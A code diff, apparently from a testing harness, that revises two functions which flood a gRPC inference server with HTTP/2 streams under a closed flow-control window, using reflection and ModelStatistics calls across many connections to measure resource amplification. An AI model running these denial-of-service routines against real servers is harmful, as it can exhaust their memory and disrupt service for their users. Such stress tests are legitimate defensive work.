@@ -88,28 +88,26 @@ def unread_reflection(target: Target) -> None:
     """Calls of reflection, each with many questions whose answers are long."""
     symbol = messages.text(4, "inference.GRPCInferenceService")
     questions = http2.framed(plain(*symbol)) * 100
-    calls = (http2.head(n, REFLECTION) + http2.data(n, questions) for n in range(1, 2 * 200, 2))
+    calls = [http2.head(n, REFLECTION) + http2.data(n, questions) for n in range(1, 2 * 200, 2)]
     with target.connect(target.server.grpc_port) as sock:
-        data = CLOSED_WINDOW + b"".join(calls)
+        data = CLOSED_WINDOW + b"".join([*calls, http2.last_call(2 * 200 + 1)])
         sock.sendall(data)
         target.count(len(data))
-        for _ in range(5):
-            target.server.settle()
+        http2.read_to_end(sock, 2 * 200 + 1)
 
 
 def unread_metadata(target: Target) -> None:
     """Calls without a window for their answers, on many connections."""
     path = http2.SERVICE + "ModelStatistics"
-    data = CLOSED_WINDOW + b"".join(
-        http2.head(n, path) + http2.data(n, http2.framed(b""), ended=True) for n in range(1, 2 * 400, 2)
-    )
+    calls = [http2.head(n, path) + http2.data(n, http2.framed(b""), ended=True) for n in range(1, 2 * 400, 2)]
+    data = CLOSED_WINDOW + b"".join([*calls, http2.last_call(2 * 400 + 1)])
     with ExitStack() as stack:
-        for _ in range(10):
-            sock = stack.enter_context(target.connect(target.server.grpc_port))
+        socks = [stack.enter_context(target.connect(target.server.grpc_port)) for _ in range(10)]
+        for sock in socks:
             sock.sendall(data)
             target.count(len(data))
-        for _ in range(5):
-            target.server.settle()
+        for sock in socks:
+            http2.read_to_end(sock, 2 * 400 + 1)
 
 
 AMPLIFIED = {
